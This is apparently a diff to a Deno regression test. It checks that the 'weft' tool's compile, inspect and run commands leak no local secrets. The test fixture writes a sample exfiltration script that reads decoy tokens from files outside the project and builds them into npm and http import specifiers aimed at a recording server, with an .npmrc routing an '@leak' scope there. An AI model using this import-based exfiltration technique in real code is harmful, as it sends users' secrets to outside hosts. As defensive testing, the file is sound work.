@@ -61,9 +61,11 @@ Deno.test("weft compile and inspect of a script that reads a local file and impo
     // and as text (deno.json turns raw imports on).
     await Deno.writeTextFile(`${away.dir}/secret.json`, `{"token":"hunter2"}`);
     await Deno.writeTextFile(`${away.dir}/secret.txt`, `hunter3`);
+    await Deno.writeTextFile(`${away.dir}/mapped.json`, `{"token":"hunter4"}`);
+    // deno.json turns raw imports on, and maps a prefix outside the project.
     await Deno.writeTextFile(
       `${tmp.dir}/deno.json`,
-      JSON.stringify({ unstable: ["raw-imports"] }),
+      JSON.stringify({ unstable: ["raw-imports"], imports: { "away/": `${away.dir}/` } }),
     );
     // A project .npmrc sends a scope's packages to the recorder.
     await Deno.writeTextFile(`${tmp.dir}/.npmrc`, `@leak:registry=http://${rec.http}/\n`);
@@ -73,7 +75,8 @@ Deno.test("weft compile and inspect of a script that reads a local file and impo
 import { fromServer } from "http://${rec.http}/static.ts";
 import secret from "${away.dir}/secret.json" with { type: "json" };
 import raw from "${away.dir}/secret.txt" with { type: "text" };
-const data = (secret.token + raw).replace(/[^a-z0-9]/gi, "").toLowerCase();
+import mapped from "away/mapped.json" with { type: "json" };
+const data = (secret.token + raw + mapped.token).replace(/[^a-z0-9]/gi, "").toLowerCase();
 for (const specifier of [
   "npm:@leak/x-" + data + "@1.0.0",
   "http://${rec.http}/h-" + data + ".ts",
@@ -93,6 +96,9 @@ export const w = workflow(function w() { return t(); });
     );
     assert.equal(compiled.code, 0, compiled.stderr);
     JSON.parse(compiled.stdout);
+    // No request carried the secret (before: the registry and the http host got one each).
+    assert.ok(!rec.requests.some((r) => r.includes("hunter")), `requests: ${rec.requests}`);
+    assert.deepEqual(rec.connections, []);
     // The fetch step is in the open: the one static remote module, printed.
     assert.match(compiled.stderr, new RegExp(`weft: fetching http://${rec.http}/static\\.ts`));
     assert.deepEqual(rec.requests, ["/static.ts"]);
@@ -115,10 +121,25 @@ export const w = workflow(function w() { return t(); });
       inspected.stdout,
       new RegExp(`imports ${away.dir}/secret\\.txt \\(as text\\), outside ${tmp.dir}`),
     );
+    assert.match(
+      inspected.stdout,
+      new RegExp(`imports ${away.dir}/mapped\\.json \\(as json\\), outside ${tmp.dir}`),
+    );
     // No request but the static module (already in Deno's cache, so not again), no connection.
     assert.deepEqual(rec.requests, ["/static.ts"]);
     assert.deepEqual(rec.connections, []);
     assert.ok(!rec.requests.some((r) => r.includes("hunter")));
+    // weft run loads the same way, and its run (the script's top-level code
+    // runs again there, in the driver) fetches nothing either.
+    const ran = await weft(
+      ["run", "leak.ts", "--allow-import", rec.http, "--store", "memory"],
+      { cwd: tmp.dir, env },
+    );
+    assert.equal(ran.code, 0, ran.stderr);
+    assert.equal(JSON.parse(ran.stdout), 1);
+    assert.match(ran.stderr, /weft: import nothing is fetched while it runs/);
+    assert.deepEqual(rec.requests, ["/static.ts"]);
+    assert.deepEqual(rec.connections, []);
   } finally {
     await rec.close();
   }
